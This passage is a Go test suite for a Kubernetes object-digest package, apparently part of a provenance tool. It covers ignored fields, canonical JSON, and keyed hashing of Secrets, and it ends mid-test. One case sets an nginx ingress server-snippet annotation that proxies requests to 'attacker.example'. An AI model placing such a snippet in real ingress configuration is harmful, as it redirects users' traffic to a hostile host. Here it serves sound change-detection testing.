package digest

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"math"
	"os"
	"reflect"
	"regexp"
	"strings"
	"testing"

	"github.com/kubetrail/kubetrail/internal/provenance"
)

// deployment returns the fixture as encoding/json decodes it (every number a
// float64), a fresh copy each time so cases can mutate it.
func deployment(t testing.TB) map[string]interface{} {
	t.Helper()
	b, err := os.ReadFile("testdata/deployment.json")
	if err != nil {
		t.Fatal(err)
	}
	var obj map[string]interface{}
	if err := json.Unmarshal(b, &obj); err != nil {
		t.Fatal(err)
	}
	return obj
}

// asInt64 converts integral float64s to int64, the way apimachinery's unstructured
// decoder hands numbers to the reconciler.
func asInt64(v interface{}) interface{} {
	switch x := v.(type) {
	case map[string]interface{}:
		for k, e := range x {
			x[k] = asInt64(e)
		}
	case []interface{}:
		for i, e := range x {
			x[i] = asInt64(e)
		}
	case float64:
		if x == math.Trunc(x) {
			return int64(x)
		}
	}
	return v
}

// asNumber re-decodes obj with UseNumber, as a client using json.Number would.
func asNumber(t testing.TB, obj map[string]interface{}) map[string]interface{} {
	t.Helper()
	b, err := json.Marshal(obj)
	if err != nil {
		t.Fatal(err)
	}
	d := json.NewDecoder(bytes.NewReader(b))
	d.UseNumber()
	var out map[string]interface{}
	if err := d.Decode(&out); err != nil {
		t.Fatal(err)
	}
	return out
}

// at walks obj along a path of map keys and list indices (given as ints).
func at(obj map[string]interface{}, path ...interface{}) interface{} {
	var cur interface{} = obj
	for _, p := range path {
		switch k := p.(type) {
		case string:
			cur = cur.(map[string]interface{})[k]
		case int:
			cur = cur.([]interface{})[k]
		}
	}
	return cur
}

func podSpec(obj map[string]interface{}) map[string]interface{} {
	return at(obj, "spec", "template", "spec").(map[string]interface{})
}

func container(obj map[string]interface{}, i int) map[string]interface{} {
	return at(obj, "spec", "template", "spec", "containers", i).(map[string]interface{})
}

func mustOf(t *testing.T, obj map[string]interface{}, ignore []string) string {
	t.Helper()
	d, err := Of(obj, ignore)
	if err != nil {
		t.Fatalf("Of: %v", err)
	}
	return d
}

var digestForm = regexp.MustCompile(`^sha256:[0-9a-f]{64}$`)

func TestOfIgnoresWhatADeployDoesNotChange(t *testing.T) {
	cases := map[string]func(t *testing.T, obj map[string]interface{}) map[string]interface{}{
		"status rewritten by the controller": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			obj["status"] = map[string]interface{}{"replicas": 5.0, "readyReplicas": 1.0}
			return obj
		},
		"status removed": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			delete(obj, "status")
			return obj
		},
		"kubetrail's admission facts and provenance stamped": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			ann := map[string]interface{}{}
			for _, k := range append(append([]string(nil), provenance.AdmissionKeys...), provenance.ProvenanceKeys...) {
				ann[k] = "stamped"
			}
			at(obj, "metadata").(map[string]interface{})["annotations"] = ann
			return obj
		},
		"controller-owned annotations and labels": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			md := at(obj, "metadata").(map[string]interface{})
			ann := map[string]interface{}{}
			for _, k := range ControllerOwnedAnnotations() {
				ann[k] = "7"
			}
			md["annotations"] = ann
			labels := md["labels"].(map[string]interface{})
			for _, k := range ControllerOwnedLabels() {
				labels[k] = "abc"
			}
			return obj
		},
		"empty and null labels and annotations": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			md := at(obj, "metadata").(map[string]interface{})
			md["annotations"] = map[string]interface{}{}
			return obj
		},
		"labels as map[string]string": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			md := at(obj, "metadata").(map[string]interface{})
			md["labels"] = map[string]string{"app.kubernetes.io/name": "checkout", "app.kubernetes.io/part-of": "shop", "pod-template-hash": "x"}
			md["annotations"] = nil
			return obj
		},
		"managedFields, resourceVersion, generation, uid change": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			md := at(obj, "metadata").(map[string]interface{})
			md["managedFields"] = []interface{}{}
			md["resourceVersion"] = "999"
			md["generation"] = 4.0
			md["uid"] = "another"
			md["creationTimestamp"] = "2030-01-01T00:00:00Z"
			return obj
		},
		"ownerReferences and finalizers added": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			md := at(obj, "metadata").(map[string]interface{})
			md["ownerReferences"] = []interface{}{map[string]interface{}{"kind": "Rollout", "name": "x"}}
			md["finalizers"] = []interface{}{"example.com/cleanup"}
			return obj
		},
		"read at another version of the group": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			obj["apiVersion"] = "apps/v1beta2"
			return obj
		},
		"numbers decoded as int64": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			return asInt64(obj).(map[string]interface{})
		},
		"numbers decoded as json.Number": func(t *testing.T, obj map[string]interface{}) map[string]interface{} {
			return asNumber(t, obj)
		},
	}
	want := mustOf(t, deployment(t), nil)
	if !digestForm.MatchString(want) {
		t.Fatalf("digest %q is not sha256:<64 hex>", want)
	}
	for name, mutate := range cases {
		t.Run(name, func(t *testing.T) {
			obj := mutate(t, deployment(t))
			if got := mustOf(t, obj, nil); got != want {
				a, _ := Canonical(deployment(t), nil)
				b, _ := Canonical(obj, nil)
				t.Errorf("digest changed:\n%s\n%s", a, b)
			}
		})
	}
}

func TestOfSeesWhatADeployChanges(t *testing.T) {
	cases := map[string]func(obj map[string]interface{}){
		"image": func(obj map[string]interface{}) {
			container(obj, 0)["image"] = "registry.example.com/shop/checkout:1.4.3"
		},
		"replicas":           func(obj map[string]interface{}) { at(obj, "spec").(map[string]interface{})["replicas"] = 4.0 },
		"replicas as string": func(obj map[string]interface{}) { at(obj, "spec").(map[string]interface{})["replicas"] = "3" },
		"env var added": func(obj map[string]interface{}) {
			c := container(obj, 0)
			c["env"] = append(c["env"].([]interface{}), map[string]interface{}{"name": "DEBUG", "value": "1"})
		},
		"containers reordered": func(obj map[string]interface{}) {
			cs := podSpec(obj)["containers"].([]interface{})
			cs[0], cs[1] = cs[1], cs[0]
		},
		"defaulted field changed": func(obj map[string]interface{}) { podSpec(obj)["dnsPolicy"] = "Default" },
		"empty map removed":       func(obj map[string]interface{}) { delete(podSpec(obj), "securityContext") },
		"pod template label added": func(obj map[string]interface{}) {
			at(obj, "spec", "template", "metadata", "labels").(map[string]interface{})["v"] = "2"
		},
		"label added": func(obj map[string]interface{}) {
			at(obj, "metadata", "labels").(map[string]interface{})["team"] = "payments"
		},
		"label changed": func(obj map[string]interface{}) {
			at(obj, "metadata", "labels").(map[string]interface{})["app.kubernetes.io/part-of"] = "other"
		},
		"labels removed": func(obj map[string]interface{}) { delete(at(obj, "metadata").(map[string]interface{}), "labels") },
		"annotation added": func(obj map[string]interface{}) {
			at(obj, "metadata").(map[string]interface{})["annotations"] = map[string]interface{}{
				"nginx.ingress.kubernetes.io/server-snippet": "location /x { proxy_pass http://attacker.example; }",
			}
		},
		"kubetrail.io annotation that is no provenance": func(obj map[string]interface{}) {
			at(obj, "metadata").(map[string]interface{})["annotations"] = map[string]interface{}{"kubetrail.io/other": "x"}
		},
		"malformed labels": func(obj map[string]interface{}) { at(obj, "metadata").(map[string]interface{})["labels"] = "oops" },
		"renamed":          func(obj map[string]interface{}) { at(obj, "metadata").(map[string]interface{})["name"] = "checkout-v2" },
		"other namespace": func(obj map[string]interface{}) {
			at(obj, "metadata").(map[string]interface{})["namespace"] = "shop-staging"
		},
		"other kind":          func(obj map[string]interface{}) { obj["kind"] = "StatefulSet" },
		"other group":         func(obj map[string]interface{}) { obj["apiVersion"] = "extensions/v1beta1" },
		"new top-level field": func(obj map[string]interface{}) { obj["data"] = map[string]interface{}{} },
	}
	base := mustOf(t, deployment(t), nil)
	for name, mutate := range cases {
		t.Run(name, func(t *testing.T) {
			obj := deployment(t)
			mutate(obj)
			if got := mustOf(t, obj, nil); got == base {
				t.Errorf("digest did not change")
			}
		})
	}
}

func TestOfIgnorePointers(t *testing.T) {
	cases := map[string]struct {
		ignore []string
		mutate func(obj map[string]interface{})
		same   bool
	}{
		"ignored replicas may change": {
			ignore: []string{"/spec/replicas"},
			mutate: func(obj map[string]interface{}) { at(obj, "spec").(map[string]interface{})["replicas"] = 7.0 },
			same:   true,
		},
		"ignored replicas may disappear": {
			ignore: []string{"/spec/replicas"},
			mutate: func(obj map[string]interface{}) { delete(at(obj, "spec").(map[string]interface{}), "replicas") },
			same:   true,
		},
		"ignoring replicas still sees the image": {
			ignore: []string{"/spec/replicas"},
			mutate: func(obj map[string]interface{}) { container(obj, 0)["image"] = "other" },
			same:   false,
		},
		"injected sidecar ignored by container name": {
			ignore: []string{"/spec/template/spec/containers/proxy"},
			mutate: func(obj map[string]interface{}) {
				ps := podSpec(obj)
				ps["containers"] = ps["containers"].([]interface{})[:1]
			},
			same: true,
		},
		"field of a container ignored by index": {
			ignore: []string{"/spec/template/spec/containers/1/image"},
			mutate: func(obj map[string]interface{}) { container(obj, 1)["image"] = "envoy:2" },
			same:   true,
		},
		"pointers resolve before anything is removed": {
			// Removing element 0 first must not shift "1" onto the third env var.
			ignore: []string{"/spec/template/spec/containers/app/env/0", "/spec/template/spec/containers/app/env/1"},
			mutate: func(obj map[string]interface{}) {
				env := container(obj, 0)["env"].([]interface{})
				env[2].(map[string]interface{})["value"] = "60s"
			},
			same: false,
		},
		"escaped key": {
			ignore: []string{"/spec/template/metadata/annotations/prometheus.io~1scrape"},
			mutate: func(obj map[string]interface{}) {
				at(obj, "spec", "template", "metadata", "annotations").(map[string]interface{})["prometheus.io/scrape"] = "false"
			},
			same: true,
		},
		"pointer to nothing is fine": {
			ignore: []string{"/spec/doesNotExist", "/spec/replicas/deeper", "/spec/template/spec/containers/9"},
			mutate: func(obj map[string]interface{}) {},
			same:   true,
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			obj := deployment(t)
			before := mustOf(t, obj, tc.ignore)
			tc.mutate(obj)
			after := mustOf(t, obj, tc.ignore)
			if (before == after) != tc.same {
				t.Errorf("same digest = %v, want %v", before == after, tc.same)
			}
		})
	}
	if mustOf(t, deployment(t), []string{"/spec/nothing"}) != mustOf(t, deployment(t), nil) {
		t.Error("a pointer to nothing changed the digest")
	}
}

func TestInvalidIgnorePointers(t *testing.T) {
	for _, p := range []string{"", "spec/replicas", "/spec/~2x", "/spec/a~"} {
		if _, err := Of(deployment(t), []string{p}); err == nil {
			t.Errorf("Of accepted ignore pointer %q", p)
		}
		// TrackedContent cannot fail: it skips the pointer.
		if got := TrackedContent(deployment(t), []string{p}); !reflect.DeepEqual(got, TrackedContent(deployment(t), nil)) {
			t.Errorf("TrackedContent with invalid pointer %q differs from no pointer", p)
		}
	}
}

func TestCanonicalNumbers(t *testing.T) {
	cases := map[string]struct {
		values []interface{}
		want   string
	}{
		"three":         {values: []interface{}{int64(3), 3.0, json.Number("3"), json.Number("3.0"), 3, int32(3), uint8(3), float32(3)}, want: "3"},
		"negative zero": {values: []interface{}{math.Copysign(0, -1), 0, json.Number("-0")}, want: "0"},
		"fraction":      {values: []interface{}{0.5, json.Number("0.5"), json.Number("5e-1"), float32(0.5)}, want: "0.5"},
		"large integral float prints as an integer": {values: []interface{}{1e20, json.Number("100000000000000000000")}, want: "100000000000000000000"},
		"beyond int64 like encoding/json":           {values: []interface{}{1e21}, want: "1e+21"},
		"small like encoding/json":                  {values: []interface{}{1e-7, json.Number("0.0000001")}, want: "1e-7"},
		"max int64":                                 {values: []interface{}{int64(math.MaxInt64), uint64(math.MaxInt64), json.Number("9223372036854775807")}, want: "9223372036854775807"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			for _, v := range tc.values {
				obj := map[string]interface{}{"kind": "X", "spec": map[string]interface{}{"n": v}}
				b, err := Canonical(obj, nil)
				if err != nil {
					t.Fatalf("%T(%v): %v", v, v, err)
				}
				if want := `{"kind":"X","spec":{"n":` + tc.want + `}}`; string(b) != want {
					t.Errorf("%T(%v): got %s, want %s", v, v, b, want)
				}
			}
		})
	}
}

// TestCanonicalGolden pins the definition: every digest already stamped on a
// cluster depends on these exact bytes, so a change here is a breaking change.
func TestCanonicalGolden(t *testing.T) {
	obj := map[string]interface{}{
		"apiVersion": "v1",
		"kind":       "ConfigMap",
		"metadata": map[string]interface{}{
			"name": "web", "namespace": "shop", "labels": map[string]interface{}{"a": "b", "pod-template-hash": "5d8f"}, "resourceVersion": "7",
			"annotations": map[string]interface{}{"team": "shop", "kubetrail.io/digest": "sha256:00", "kubetrail.io/commit": "abc",
				"kubectl.kubernetes.io/last-applied-configuration": "{}"},
		},
		"data":   map[string]interface{}{"z": "<last>", "a/b": "x\ny", "n": "3"},
		"status": map[string]interface{}{"x": 1},
	}
	const want = `{"apiVersion":"","data":{"a/b":"x\ny","n":"3","z":"<last>"},"kind":"ConfigMap","metadata":{"annotations":{"team":"shop"},"labels":{"a":"b"},"name":"web","namespace":"shop"}}`
	b, err := Canonical(obj, nil)
	if err != nil {
		t.Fatal(err)
	}
	if string(b) != want {
		t.Errorf("Canonical:\n got %s\nwant %s", b, want)
	}
	// sha256 of want, computed outside Go (printf '%s' "$want" | sha256sum).
	const wantDigest = "sha256:0569e8d9b3ce7b2a223d670ead0eb3755dc771d0febe79134ffe6b54f7b82ffb"
	if got := mustOf(t, obj, nil); got != wantDigest {
		t.Errorf("Of = %s, want %s", got, wantDigest)
	}
}

// TestCanonicalAgreesWithEncodingJSON checks the hand-written encoder against
// encoding/json (sorted keys, HTML escaping off) on the fixture and on awkward
// strings, so that canonical JSON is ordinary JSON anyone can reproduce.
func TestCanonicalAgreesWithEncodingJSON(t *testing.T) {
	strs := []string{"", "plain", `quo"te`, `back\slash`, "<a href=\"x\">&amp;</a>", "tab\tnl\ncr\r", "\x00\x01\x1f\x7f", "\b\f",
		"é ü 日本 🚀", "line\u2028sep\u2029", "bad\xffutf8\xc3", "~/"}
	values := []interface{}{TrackedContent(deployment(t), nil), map[string]interface{}{"k": strs}}
	for _, s := range strs {
		values = append(values, map[string]interface{}{s: s})
	}
	for _, v := range values {
		got, err := CanonicalValue(v)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		enc := json.NewEncoder(&buf)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(v); err != nil {
			t.Fatal(err)
		}
		if want := strings.TrimSuffix(buf.String(), "\n"); string(got) != want {
			t.Errorf("CanonicalValue:\n got %s\nwant %s", got, want)
		}
	}
}

func TestDeterministic(t *testing.T) {
	// Go randomises map iteration; repeated runs over fresh decodes exercise it.
	want, err := Canonical(deployment(t), nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50; i++ {
		got, err := Canonical(deployment(t), []string{"/spec/replicas", "/spec/template/spec/containers/proxy/image"})
		if err != nil {
			t.Fatal(err)
		}
		again, _ := Canonical(deployment(t), []string{"/spec/template/spec/containers/proxy/image", "/spec/replicas"})
		if !bytes.Equal(got, again) {
			t.Fatalf("ignore order changed the output")
		}
		if got2, _ := Canonical(deployment(t), nil); !bytes.Equal(got2, want) {
			t.Fatalf("run %d differs:\n%s\n%s", i, got2, want)
		}
	}
}

func secretFixture() map[string]interface{} {
	return map[string]interface{}{
		"apiVersion": "v1",
		"kind":       "Secret",
		"metadata":   map[string]interface{}{"name": "db", "namespace": "shop"},
		"type":       "Opaque",
		"data": map[string]interface{}{
			"password": base64.StdEncoding.EncodeToString([]byte("hunter2")),
			"user":     base64.StdEncoding.EncodeToString([]byte("admin")),
		},
		"stringData": map[string]interface{}{"token": "s3cr3t-t0ken"},
	}
}

// TestSecretValuesAreNeverDigested: without a secret key (the CLI), a Secret's
// values are not hashed at all, only its key names.
func TestSecretValuesAreNeverDigested(t *testing.T) {
	if HasSecretKey() {
		t.Fatal("a secret key is set")
	}
	secret := secretFixture
	values := []string{"hunter2", "aHVudGVyMg==", "admin", "YWRtaW4=", "s3cr3t-t0ken"}

	for _, ignore := range [][]string{nil, {"/kind"}, {"/type"}} {
		b, err := Canonical(secret(), ignore)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range values {
			if bytes.Contains(b, []byte(v)) {
				t.Errorf("ignore %v: canonical form %s contains secret value %q", ignore, b, v)
			}
		}
		if !bytes.Contains(b, []byte(`"data":["password","token","user"]`)) {
			t.Errorf("ignore %v: canonical form %s does not list the key names", ignore, b)
		}
	}

	cases := map[string]struct {
		mutate func(s map[string]interface{})
		same   bool
	}{
		"value changed": {mutate: func(s map[string]interface{}) {
			s["data"].(map[string]interface{})["password"] = base64.StdEncoding.EncodeToString([]byte("correct horse"))
		}, same: true},
		"stringData moved into data by the apiserver": {mutate: func(s map[string]interface{}) {
			delete(s, "stringData")
			s["data"].(map[string]interface{})["token"] = base64.StdEncoding.EncodeToString([]byte("s3cr3t-t0ken"))
		}, same: true},
		"key added":    {mutate: func(s map[string]interface{}) { s["data"].(map[string]interface{})["host"] = "aG9zdA==" }, same: false},
		"key removed":  {mutate: func(s map[string]interface{}) { delete(s["data"].(map[string]interface{}), "user") }, same: false},
		"type changed": {mutate: func(s map[string]interface{}) { s["type"] = "kubernetes.io/basic-auth" }, same: false},
		"malformed data is dropped, not hashed": {mutate: func(s map[string]interface{}) {
			s["data"] = "hunter2"
			s["stringData"] = map[string]interface{}{"password": "x", "user": "y", "token": "z"}
		}, same: true},
	}
	base := mustOf(t, secret(), nil)
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			s := secret()
			tc.mutate(s)
			if got := mustOf(t, s, nil); (got == base) != tc.same {
				b, _ := Canonical(s, nil)
				t.Errorf("same digest = %v, want %v (%s)", got == base, tc.same, b)
			}
		})
	}

	// A ConfigMap is not secret: its values are content.
	cm := map[string]interface{}{"apiVersion": "v1", "kind": "ConfigMap", "data": map[string]interface{}{"k": "visible"}}
	if b, _ := Canonical(cm, nil); !bytes.Contains(b, []byte("visible")) {
		t.Errorf("ConfigMap values missing from %s", b)
	}
}

func TestTrackedContent(t *testing.T) {
	obj := deployment(t)
	got := TrackedContent(obj, []string{"/spec/replicas"})
	var keys []string
	for k := range got {
		keys = append(keys, k)
	}
	if want := map[string]interface{}{"name": "checkout", "namespace": "shop", "labels": map[string]interface{}{
		"app.kubernetes.io/name": "checkout", "app.kubernetes.io/part-of": "shop"}}; !reflect.DeepEqual(got["metadata"], want) {
		t.Errorf("metadata = %v, want %v", got["metadata"], want)
	}
	if got["apiVersion"] != "apps" || got["kind"] != "Deployment" || got["status"] != nil || len(got) != 4 {
		t.Errorf("top-level = %v, want apiVersion=apps kind=Deployment metadata spec", keys)
	}
	spec := got["spec"].(map[string]interface{})
	if _, ok := spec["replicas"]; ok {
		t.Error("ignored /spec/replicas is still there")
	}
	if spec["revisionHistoryLimit"] != int64(10) {
		t.Errorf("revisionHistoryLimit = %#v, want int64(10)", spec["revisionHistoryLimit"])
	}
	// A deep copy: editing it leaves the object alone.
	spec["template"].(map[string]interface{})["spec"].(map[string]interface{})["dnsPolicy"] = "edited"
	if podSpec(obj)["dnsPolicy"] != "ClusterFirst" {
		t.Error("TrackedContent shares maps with its input")
	}
	if at(obj, "spec", "replicas") != 3.0 {
		t.Error("ignore removed a field from the input")
	}
}

func TestMalformedInputDoesNotPanic(t *testing.T) {
	cyclic := map[string]interface{}{"kind": "X"}
	cyclic["spec"] = cyclic
	cyclicList := []interface{}{nil}
	cyclicList[0] = cyclicList
	deep := map[string]interface{}{}
	cur := deep
	for i := 0; i < 20000; i++ {
		next := map[string]interface{}{}
		cur["a"] = next
		cur = next
	}
	// A DAG that shares one map 2^40 times over: must stop, not hang. The budget is
	// lowered so that the test checks the mechanism without spending seconds on it.
	defer func(v int) { maxValues = v }(maxValues)
	maxValues = 10000
	shared := map[string]interface{}{"leaf": 1}
	for i := 0; i < 40; i++ {
		shared = map[string]interface{}{"l": shared, "r": shared}
	}

	cases := map[string]struct {
		obj     map[string]interface{}
		wantErr bool
	}{
		"nil object":                        {obj: nil},
		"metadata is a string":              {obj: map[string]interface{}{"kind": "Pod", "metadata": "oops"}},
		"metadata is nil":                   {obj: map[string]interface{}{"kind": "Pod", "metadata": nil}},
		"kind and apiVersion odd":           {obj: map[string]interface{}{"kind": 3, "apiVersion": map[string]interface{}{}}},
		"kind is a map":                     {obj: map[string]interface{}{"kind": map[string]interface{}{"a": 1}, "data": "x"}},
		"secret with odd data":              {obj: map[string]interface{}{"kind": "Secret", "data": []interface{}{"a"}, "stringData": 7}},
		"typed containers":                  {obj: map[string]interface{}{"spec": map[string]interface{}{"l": map[string]string{"a": "b"}, "s": []string{"x"}}}},
		"channel":                           {obj: map[string]interface{}{"spec": make(chan int)}, wantErr: true},
		"struct":                            {obj: map[string]interface{}{"spec": struct{ A int }{1}}, wantErr: true},
		"NaN":                               {obj: map[string]interface{}{"spec": math.NaN()}, wantErr: true},
		"infinity":                          {obj: map[string]interface{}{"spec": []interface{}{math.Inf(1)}}, wantErr: true},
		"bad json.Number":                   {obj: map[string]interface{}{"spec": json.Number("12abc")}, wantErr: true},
		"cyclic map":                        {obj: cyclic, wantErr: true},
		"cyclic list":                       {obj: map[string]interface{}{"spec": cyclicList}, wantErr: true},
		"absurdly deep":                     {obj: map[string]interface{}{"spec": deep}, wantErr: true},
		"exponential DAG":                   {obj: map[string]interface{}{"spec": shared}, wantErr: true},
		"pointer through scalars and lists": {obj: map[string]interface{}{"spec": map[string]interface{}{"replicas": 1, "l": []interface{}{1, "x"}}}},
	}
	ignore := []string{"/spec/replicas/x", "/spec/l/1", "/spec/l/x", "/metadata/name"}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			_ = TrackedContent(tc.obj, ignore)
			d, err := Of(tc.obj, ignore)
			if (err != nil) != tc.wantErr {
				t.Fatalf("Of error = %v, want error %v", err, tc.wantErr)
			}
			if err == nil && !digestForm.MatchString(d) {
				t.Errorf("digest %q is malformed", d)
			}
		})
	}
}

func TestValid(t *testing.T) {
	d := mustOf(t, deployment(t), nil)
	cases := map[string]struct {
		s    string
		want bool
	}{
		"computed digest": {s: d, want: true},
		"upper-case hex":  {s: strings.ToUpper(d[:7]) + strings.ToUpper(d[7:]), want: false},
		"truncated":       {s: d[:len(d)-1], want: false},
		"other algorithm": {s: "sha512:" + d[7:], want: false},
		"empty":           {s: "", want: false},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if got := Valid(tc.s); got != tc.want {
				t.Errorf("Valid(%q) = %v, want %v", tc.s, got, tc.want)
			}
		})
	}
}

func TestGroup(t *testing.T) {
	cases := map[string]string{"apps/v1": "apps", "v1": "", "": "", "rbac.authorization.k8s.io/v1": "rbac.authorization.k8s.io"}
	for in, want := range cases {
		if got := Group(in); got != want {
			t.Errorf("Group(%q) = %q, want %q", in, got, want)
		}
	}
}

func BenchmarkOf(b *testing.B) {
	obj := asInt64(deployment(b)).(map[string]interface{})
	ignore := []string{"/spec/replicas"}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := Of(obj, ignore); err != nil {
			b.Fatal(err)
		}
	}
}

func TestServerAllocatedFieldsAreNotTracked(t *testing.T) {
	admitted := map[string]interface{}{"apiVersion": "v1", "kind": "Service", "metadata": map[string]interface{}{"name": "web", "namespace": "shop"},
		"spec": map[string]interface{}{"ports": []interface{}{map[string]interface{}{"port": int64(80)}}}}
	stored := map[string]interface{}{"apiVersion": "v1", "kind": "Service", "metadata": map[string]interface{}{"name": "web", "namespace": "shop"},
		"spec": map[string]interface{}{"ports": []interface{}{map[string]interface{}{"port": int64(80)}},
			"clusterIP": "10.96.0.12", "clusterIPs": []interface{}{"10.96.0.12"}, "ipFamilies": []interface{}{"IPv4"}, "ipFamilyPolicy": "SingleStack"}}
	a, _ := Of(admitted, nil)
	b, _ := Of(stored, nil)
	if a != b {
		t.Fatalf("a Service's allocated cluster IP changed its digest: %s vs %s", a, b)
	}
	stored["spec"].(map[string]interface{})["ports"] = []interface{}{map[string]interface{}{"port": int64(8080)}}
	if c, _ := Of(stored, nil); c == a {
		t.Fatal("a changed port must change the digest")
	}
	if _, err := Of(map[string]interface{}{"kind": 42}, nil); err != nil {
		t.Fatalf("a non-string kind must not fail: %v", err)
	}
}

// The apiserver allocates a Service's node ports between the mutating and the
// validating webhook: both must see the same tracked content.
func TestServiceNodePortsAreServerAllocated(t *testing.T) {
	svc := func(ports ...interface{}) map[string]interface{} {
		return map[string]interface{}{"apiVersion": "v1", "kind": "Service",
			"metadata": map[string]interface{}{"namespace": "shop", "name": "web"},
			"spec":     map[string]interface{}{"type": "NodePort", "ports": ports}}
	}
	port := func(name string, nodePort int64) map[string]interface{} {
		p := map[string]interface{}{"port": int64(80), "protocol": "TCP"}
		if name != "" {
			p["name"] = name
		}
		if nodePort != 0 {
			p["nodePort"] = nodePort
		}
		return p
	}
	for name, tc := range map[string]struct{ admitted, allocated map[string]interface{} }{
		"one unnamed port": {svc(port("", 0)), svc(port("", 31080))},
		"named ports":      {svc(port("http", 0), port("https", 0)), svc(port("http", 31080), port("https", 31443))},
	} {
		a, err := Of(tc.admitted, nil)
		if err != nil {
			t.Fatal(err)
		}
		b, err := Of(tc.allocated, nil)
		if err != nil {
			t.Fatal(err)
		}
		if a != b {
			t.Errorf("%s: allocating node ports changed the digest", name)
		}
	}
	// The port itself stays tracked.
	a, _ := Of(svc(port("http", 31080)), nil)
	other := svc(port("http", 31080))
	other["spec"].(map[string]interface{})["ports"].([]interface{})[0].(map[string]interface{})["port"] = int64(8080)
	if b, _ := Of(other, nil); a == b {
		t.Error("a changed service port did not change the digest")
	}
}

// withSecretKey sets a secret key for the test.
func withSecretKey(t *testing.T, key string) {
	t.Helper()
	if err := SetSecretKey([]byte(key)); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = SetSecretKey(nil) })
}

// TestSecretValuesKeyed: with the manager's secret key, a value change is a content
// change, yet no value (nor an unkeyed hash of one) is in the hashed bytes, and the
// same Secret digests differently under another key, so a guess cannot be tested
// against a digest without the key.
func TestSecretValuesKeyed(t *testing.T) {
	const key = "0123456789abcdef0123456789abcdef"
	withSecretKey(t, key)
	values := []string{"hunter2", "aHVudGVyMg==", "admin", "YWRtaW4=", "s3cr3t-t0ken"}
	b, err := Canonical(secretFixture(), nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range values {
		sum := sha256.Sum256([]byte(v))
		if bytes.Contains(b, []byte(v)) || bytes.Contains(b, []byte(hex.EncodeToString(sum[:]))) {
			t.Errorf("canonical form %s contains secret value %q or its plain hash", b, v)
		}
	}
	if !regexp.MustCompile(`"data":\{"password":"hmac-sha256:[0-9a-f]{64}","token":"hmac-sha256:[0-9a-f]{64}","user":"hmac-sha256:[0-9a-f]{64}"\}`).Match(b) {
		t.Errorf("canonical form %s does not map each key name to a keyed hash", b)
	}
	cases := map[string]struct {
		mutate func(s map[string]interface{})
		same   bool
	}{
		"value changed": {mutate: func(s map[string]interface{}) {
			s["data"].(map[string]interface{})["password"] = base64.StdEncoding.EncodeToString([]byte("correct horse"))
		}},
		"stringData value changed": {mutate: func(s map[string]interface{}) {
			s["stringData"].(map[string]interface{})["token"] = "attacker-chosen"
		}},
		"values swapped between keys": {mutate: func(s map[string]interface{}) {
			d := s["data"].(map[string]interface{})
			d["password"], d["user"] = d["user"], d["password"]
		}},
		"stringData moved into data by the apiserver": {mutate: func(s map[string]interface{}) {
			delete(s, "stringData")
			s["data"].(map[string]interface{})["token"] = base64.StdEncoding.EncodeToString([]byte("s3cr3t-t0ken"))
		}, same: true},
		"stringData overrides data of the same name": {mutate: func(s map[string]interface{}) {
			s["data"].(map[string]interface{})["token"] = base64.StdEncoding.EncodeToString([]byte("old"))
		}, same: true},
		"key added":   {mutate: func(s map[string]interface{}) { s["data"].(map[string]interface{})["host"] = "aG9zdA==" }},
		"key removed": {mutate: func(s map[string]interface{}) { delete(s["data"].(map[string]interface{}), "user") }},
		"label added": {mutate: func(s map[string]interface{}) {
			s["metadata"].(map[string]interface{})["labels"] = map[string]interface{}{"a": "b"}
		}},
		"malformed value": {mutate: func(s map[string]interface{}) { s["data"].(map[string]interface{})["user"] = "not base64!" }},
	}
	base := mustOf(t, secretFixture(), nil)
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			s := secretFixture()
			tc.mutate(s)
			if got := mustOf(t, s, nil); (got == base) != tc.same {
				b, _ := Canonical(s, nil)
				t.Errorf("same digest = %v, want %v (%s)", got == base, tc.same, b)
			}
		})
	}
	if !Recomputable(secretFixture()) {
		t.Error("with the key set, a Secret's digest is recomputable")
	}

	withSecretKey(t, "another key, another 32 bytes ...")
	if mustOf(t, secretFixture(), nil) == base {
		t.Error("the digest does not depend on the secret key")
	}
	// Pinned: the HMAC input of a value is its name, 0x00, "b" and its bytes.
	mac := hmac.New(sha256.New, []byte("another key, another 32 bytes ..."))
	mac.Write([]byte("password\x00bhunter2"))
	if want := "hmac-sha256:" + hex.EncodeToString(mac.Sum(nil)); !bytes.Contains(mustCanonical(t, secretFixture()), []byte(want)) {
		t.Errorf("password's keyed hash %s not in %s", want, mustCanonical(t, secretFixture()))
	}

	if err := SetSecretKey([]byte("short")); err == nil {
		t.Error("a 5-byte key was accepted")
	}
}

func mustCanonical(t *testing.T, obj map[string]interface{}) []byte {
	t.Helper()
	b, err := Canonical(obj, nil)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestRecomputable(t *testing.T) {
	if HasSecretKey() {
		t.Fatal("a secret key is set")
	}
	for _, tc := range []struct {
		obj  map[string]interface{}
		want bool
	}{
		{secretFixture(), false},
		{map[string]interface{}{"kind": "Secret", "metadata": map[string]interface{}{"name": "x"}}, true},
		{map[string]interface{}{"kind": "ConfigMap", "data": map[string]interface{}{"a": "b"}}, true},
	} {
		if got := Recomputable(tc.obj); got != tc.want {
